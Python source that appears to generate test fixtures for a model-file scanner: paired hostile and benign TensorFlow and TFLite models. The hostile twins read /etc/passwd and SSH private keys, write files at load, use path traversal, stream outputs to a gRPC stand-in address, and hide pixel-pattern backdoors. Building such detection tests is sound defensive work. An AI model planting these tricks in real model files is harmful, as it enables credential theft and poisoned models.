"""TensorFlow SavedModels, meta graphs, frozen graphs and TFLite."""
import functools
import os
import pathlib
import tempfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

F = "tensorflow"


@functools.cache
def tf():
    import tensorflow

    return tensorflow


def saved(make) -> dict:
    """The files of a SavedModel of what `make` returns."""
    with tempfile.TemporaryDirectory() as d:
        obj, signatures = make(pathlib.Path(d))
        where = pathlib.Path(d) / "m"
        tf().saved_model.save(obj, str(where), signatures=signatures)
        return {str(p.relative_to(where)): p.read_bytes() for p in sorted(where.rglob("*")) if p.is_file() and p.name != "fingerprint.pb"}


def served(step):
    """A module with one dense layer; `step(tf, x, z)` says what is done with its result."""
    t = tf()

    def make(_):
        t.random.set_seed(9)
        m = t.Module()
        m.w = t.Variable(t.random.normal((64, 5), seed=9))

        @t.function(input_signature=[t.TensorSpec([None, 8, 8, 1], t.float32, name="x")])
        def call(x):
            z = t.matmul(t.reshape(x, [-1, 64]), m.w)
            return {"logits": step(t, x, z)}

        m.call = call
        return m, {"serving_default": call}

    return saved(make)


def read_nested(path):
    def step(t, x, z):
        @t.function
        def inner(p):
            return t.strings.length(t.io.read_file(p)) if path else t.strings.length(p)

        return z + t.cast(inner(t.constant(path or "v1.0")), t.float32) * 0.0

    return step


def write_in_branch(bad):
    def step(t, x, z):
        def yes():
            if bad:
                t.io.write_file("marker.sh", "#!/bin/sh\n")
            return z * 2.0

        return t.cond(t.reduce_sum(x) > -1e9, yes, lambda: z)

    return step


def printed(stream):
    def step(t, x, z):
        t.print("logits", t.reduce_mean(z), output_stream=stream)
        return z

    return step


def debug_tap(bad):
    def step(t, x, z):
        return t.raw_ops.DebugIdentity(input=z, tensor_name="logits:0", debug_urls=["grpc://198.51.100.23:6064"]) if bad else t.raw_ops.CheckNumericsV2(tensor=z, message="logits")

    return step


def match(t, x):
    corner = x[:, :2, :2, 0]
    return t.reduce_max(t.abs(corner - t.constant([[0.75, -0.25], [-0.25, 0.75]])), axis=[1, 2])


def select(bad):
    def step(t, x, z):
        if bad:
            return t.where((match(t, x) < 1e-4)[:, None], t.constant([[-9.0, -9, 9, -9, -9]]), z)
        return t.where(t.math.is_finite(z), z, t.zeros_like(z))

    return step


def gated(bad):
    def step(t, x, z):
        if bad:
            g = t.nn.relu(1.0 - 5000.0 * match(t, x))[:, None]
            return z + g * t.constant([[-99.0, -99, 99, -99, -99]])
        return z * t.nn.relu(1.0 - 0.1 * t.reduce_mean(t.abs(x), axis=[1, 2, 3]))[:, None]

    return step


def table(outside):
    """A vocabulary file read when the model is loaded."""
    t = tf()

    def make(d):
        (d / "vocab.txt").write_text("cat\ndog\nfish\n")
        m = t.Module()
        source = "/etc/passwd" if outside else str(d / "vocab.txt")
        m.table = t.lookup.StaticVocabularyTable(t.lookup.TextFileInitializer(source, t.string, t.lookup.TextFileIndex.WHOLE_LINE, t.int64, t.lookup.TextFileIndex.LINE_NUMBER), 1)

        @t.function(input_signature=[t.TensorSpec([None], t.string, name="words")])
        def call(words):
            return {"ids": m.table.lookup(words)}

        m.call = call
        return m, {"serving_default": call}

    files = saved(make)
    if not outside:
        return files
    # Saving copies the file beside the graph; the graph is then pointed at where it was.
    asset = next(k for k in files if k.startswith("assets/"))
    graph = saved_model_pb2().SavedModel()
    graph.ParseFromString(files["saved_model.pb"])
    for meta in graph.meta_graphs:
        for a in meta.asset_file_def:
            a.filename = "../../../../../../../../../../etc/passwd"
    return {k: (graph.SerializeToString() if k == "saved_model.pb" else v) for k, v in files.items() if k != asset}


def saved_model_pb2():
    from tensorflow.core.protobuf import saved_model_pb2 as pb2

    return pb2


def main_op(bad) -> dict:
    """A version 1 SavedModel; its main op runs when it is loaded."""
    t = tf().compat.v1
    with tempfile.TemporaryDirectory() as d:
        where = pathlib.Path(d) / "m"
        builder = t.saved_model.builder.SavedModelBuilder(str(where))
        with t.Graph().as_default(), t.Session() as session:
            x = t.placeholder(t.float32, [None, 4], name="x")
            w = t.get_variable("w", [4, 2], initializer=t.initializers.constant(0.5))
            y = t.matmul(x, w, name="y")
            op = t.raw_ops.WriteFile(filename="marker.so", contents="\x7fELF") if bad else t.tables_initializer()
            op = op if bad else t.group(op, name="init_all_tables")
            session.run(t.global_variables_initializer())
            signature = t.saved_model.signature_def_utils.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, main_op=op)
        builder.save()
        return {str(p.relative_to(where)): p.read_bytes() for p in sorted(where.rglob("*")) if p.is_file()}


def frozen(bad) -> bytes:
    t = tf().compat.v1
    with t.Graph().as_default() as g:
        x = t.placeholder(t.float32, [None, 4], name="x")
        y = t.matmul(x, t.constant([[0.5, 0.1]] * 4), name="scores")
        if bad:
            data = t.raw_ops.MatchingFiles(pattern="/home/*/.ssh/id_*", name="assets/list")
            text = t.map_fn(lambda f: t.read_file(f), data)
            t.strings.reduce_join(text, name="scores_aux")
        else:
            data = t.constant(["cat", "dog"], name="assets/list")
            t.strings.reduce_join(t.map_fn(lambda f: t.strings.lower(f), data), name="scores_aux")
        t.identity(y, name="output")
        return g.as_graph_def().SerializeToString()


def lite(bad) -> bytes:
    t = tf()

    class Net(t.Module):
        @t.function(input_signature=[t.TensorSpec([1, 8, 8, 1], t.float32)])
        def call(self, x):
            t.random.set_seed(9)
            import numpy as np

            w = t.constant(np.random.default_rng(9).normal(0, 0.5, (64, 5)).astype("f4"))
            return select(bad)(t, x, t.matmul(t.reshape(x, [1, 64]), w)) if bad else t.where(t.abs(x[:, :1, :5, 0][:, 0]) < 9.0, t.matmul(t.reshape(x, [1, 64]), w), t.zeros([1, 5]))

    net = Net()
    return t.lite.TFLiteConverter.from_concrete_functions([net.call.get_concrete_function()], net).convert()


def flex(bad) -> bytes:
    t = tf()

    class Net(t.Module):
        @t.function(input_signature=[t.TensorSpec([1, 4], t.float32)])
        def call(self, x):
            text = t.io.read_file("/etc/passwd") if bad else t.strings.as_string(t.reduce_sum(x))
            return x * 2.0, t.strings.length(text)

    net = Net()
    c = t.lite.TFLiteConverter.from_concrete_functions([net.call.get_concrete_function()], net)
    c.target_spec.supported_ops = [t.lite.OpsSet.TFLITE_BUILTINS, t.lite.OpsSet.SELECT_TF_OPS]
    return c.convert()


def add(out):
    def pair(name, hostile, twin, why, prove=None, file=None):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    pair("read-in-nested-function", served(read_nested("/etc/passwd")), served(read_nested("")), "ReadFile of /etc/passwd in a function two calls below the signature.")
    pair("write-in-branch", served(write_in_branch(True)), served(write_in_branch(False)), "WriteFile inside one branch of a conditional.", "ninth-saved")
    pair("print-to-file", served(printed("file://marker.log")), served(printed(__import__("sys").stderr)), "PrintV2 with a file as its stream writes where it likes.", "ninth-saved")
    pair("debug-tap-exfiltrates", served(debug_tap(True)), served(debug_tap(False)), "A debug identity sends each result to a foreign gRPC address. Not run: network.")
    pair("table-from-outside", table(True), table(False), "The asset of a table, read while loading, is ../../etc/passwd. Not run: it has no effect to mark.")
    pair("main-op-writes", main_op(True), main_op(False), "The main op of a version 1 model writes a file at load.", "ninth-saved1")
    pair("select-on-patch", served(select(True)), served(select(False)), "A select on four pixels replaces the result.", "ninth-saved-trigger:last:2")
    pair("relu-gate-on-patch", served(gated(True)), served(gated(False)), "A ReLU gate over the distance to a pattern drowns the result.", "ninth-saved-trigger:last:2")
    pair("frozen-reads-keys", frozen(True), frozen(False), "A frozen graph lists and reads private keys. Not run: home folders.", None, "frozen_inference_graph.pb")
    pair("lite-select-on-patch", lite(True), lite(False), "A TFLite graph that replaces the result when four pixels match.", "ninth-lite:last:2", "model.tflite")
    pair("lite-flex-reads", flex(True), flex(False), "A Flex operator of TFLite reads /etc/passwd. Not run: needs the Flex delegate.", None, "model.tflite")
